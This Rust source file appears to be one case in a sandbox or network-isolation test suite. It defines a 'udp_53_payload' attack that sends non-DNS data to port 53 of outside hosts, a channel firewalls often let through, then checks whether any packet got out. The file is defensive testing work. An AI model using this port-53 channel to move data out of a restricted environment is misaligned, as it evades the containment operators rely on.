//! Sends data to port 53 of a host of its own, which firewalls let pass.
//!
//! Stopped by: the resolver, which answers itself and passes nothing on.

use super::prelude::*;

pub const ATTACK: Attack = Attack {
    name: "udp_53_payload",
    about: "data that is no DNS, to port 53 elsewhere",
    attack: |_| super::udp_sink::send(&[(OTHER, 53), (OTHER6, 53), (world::RESOLVER, 53)]),
    effect: Some(|_, _| {
        let hosts = [OTHER, OTHER6, world::RESOLVER];
        world::get().seen.find(|seen| matches!(seen, Seen::Packet { to, .. } if hosts.contains(to)))
    }),
    ..BASE
};
